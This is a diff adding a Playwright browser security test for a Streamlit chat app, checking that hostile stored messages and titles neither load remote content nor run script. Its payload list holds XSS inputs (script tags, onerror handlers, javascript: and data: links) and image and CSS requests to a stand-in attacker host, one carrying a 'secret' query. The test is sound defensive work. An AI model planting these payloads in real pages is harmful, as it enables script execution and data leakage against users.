@@ -1,0 +1,123 @@
+"""Hostile content in a real browser: what a crafted reply, question or title could make a viewer's
+browser do (fetch a remote image, run a script, follow a `javascript:`/`data:` link), and the
+password's signed login cookie.
+
+The conversation is written into the app's store before the page opens, as an import or an earlier
+reply would have left it. Every request the page makes is seen through Playwright's routing, and
+anything not addressed to the app itself is recorded and refused.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from minicpm_core.store import ConversationStore
+
+from browser_utils import VIEWPORT, StreamlitServer, app_env, launch_chromium, open_app
+
+CHROMIUM = Path("/usr/bin/chromium")
+pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason=f"{CHROMIUM} is missing (apt-get install chromium)")
+
+sync_api = pytest.importorskip("playwright.sync_api")
+expect = sync_api.expect
+
+STEP_MS = 90_000
+HOST = "leak.example"  # the attacker's image host: any request to it is a leak
+PWNED = "window.__pwned = 1"
+TITLE = f"Title ![t](http://{HOST}/title.png) <img src=http://{HOST}/t2.png> **bold** :red[x] $x$"
+
+# Each one either tries to load something from HOST or to run PWNED.
+PAYLOADS = [
+    f"![x](http://{HOST}/plain.png?q=secret)",
+    f"![x](https://{HOST}/https.png 'title')",
+    f"[![nested](http://{HOST}/nested.png)](https://example.org)",
+    f"![ref][img]\n\n[img]: http://{HOST}/reference.png",
+    f"![shortcut]\n\n[shortcut]: http://{HOST}/shortcut.png",
+    f"> quoted ![q](http://{HOST}/quote.png)",
+    f"- listed ![l](http://{HOST}/list.png)",
+    f"| a |\n|---|\n| ![t](http://{HOST}/table.png) |",
+    f"# heading ![h](http://{HOST}/heading.png)",
+    f"<img src=http://{HOST}/html.png>",
+    f'<img src=x onerror="{PWNED}">',
+    f"<script>{PWNED}</script>",
+    f'<svg onload="{PWNED}"></svg>',
+    f"<iframe src=http://{HOST}/frame></iframe>",
+    f'<a href="javascript:{PWNED}">html link</a>',
+    f"[js link](javascript:{PWNED.replace(' ', '')})",
+    f"[JS link](JaVaScRiPt:{PWNED.replace(' ', '')})",
+    "[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
+    "<data:text/html,<script>window.__pwned=1</script>>",
+    f"[ref js][js]\n\n[js]: javascript:{PWNED.replace(' ', '')}",
+    f"$$\\href{{javascript:{PWNED.replace(' ', '')}}}{{katex}}$$",
+    f"<style>@import url(http://{HOST}/style.css);</style>",
+    f'<video poster="http://{HOST}/poster.png"></video>',
+]
+
+
+@pytest.fixture(scope="module")
+def browser():
+    with sync_api.sync_playwright() as playwright:
+        expect.set_options(timeout=STEP_MS)
+        chromium = launch_chromium(playwright)
+        yield chromium
+        chromium.close()
+
+
+@pytest.fixture(scope="module")
+def hostile_app(tiny_ckpt, tmp_path_factory, browser):
+    """A server whose store holds one conversation full of payloads, titled with one too."""
+    tmp = tmp_path_factory.mktemp("security_browser")
+    store = ConversationStore(tmp / "data" / "conversations.sqlite3")
+    conversation = store.create(TITLE)
+    for i, payload in enumerate(PAYLOADS):
+        store.append(conversation.id, "user" if i % 2 else "assistant", f"payload {i}:\n\n{payload}")
+    store.close()
+    server = StreamlitServer(app_env(tiny_ckpt, tmp / "data"), tmp / "streamlit.log")
+    with server:
+        yield server, conversation.id
+
+
+def watch(page, app_url: str) -> list[str]:
+    """Refuse and record every request not addressed to the app."""
+    leaked: list[str] = []
+
+    def route(route):
+        if route.request.url.startswith(app_url):
+            route.continue_()
+        else:
+            leaked.append(route.request.url)
+            route.abort()
+
+    page.route("**/*", route)
+    return leaked
+
+
+def test_hostile_messages_and_title_load_nothing_and_run_nothing(hostile_app, browser):
+    server, conv_id = hostile_app
+    context = browser.new_context(viewport=VIEWPORT, locale="en-US")
+    try:
+        page = context.new_page()
+        leaked = watch(page, server.url)
+        open_app(page, f"{server.url}?c={conv_id}", STEP_MS * 2)
+        messages = page.get_by_test_id("stChatMessage")
+        expect(messages).to_have_count(len(PAYLOADS))
+        expect(page.get_by_test_id("stException")).to_have_count(0)
+        main = page.get_by_test_id("stMainBlockContainer")
+        # Images are shown as links to them (their address visible, nothing fetched).
+        expect(main.locator(f'a[href^="http://{HOST}/plain.png"]')).to_have_count(1)
+        assert main.locator("img").count() == 0 and page.get_by_test_id("stSidebar").locator("img").count() == 0
+        hrefs = main.locator("a[href]").evaluate_all("links => links.map(a => a.getAttribute('href'))")
+        assert not [h for h in hrefs if h.strip().lower().startswith(("javascript:", "data:", "vbscript:"))]
+        # The title is shown as typed, in the heading and in the sidebar's list.
+        expect(main.locator("h1").first).to_have_text(TITLE)
+        expect(page.get_by_test_id("stSidebar").get_by_role("button", name=TITLE).first).to_be_visible()
+        for link in main.locator("a").all():  # clicking what is left must not run anything either
+            if link.get_attribute("href") is None:
+                link.click(modifiers=["ControlOrMeta"])
+        assert page.evaluate("window.__pwned") is None
+        assert not [url for url in leaked if HOST in url], leaked
+    finally:
+        context.close()
+    assert "Traceback" not in server.log()
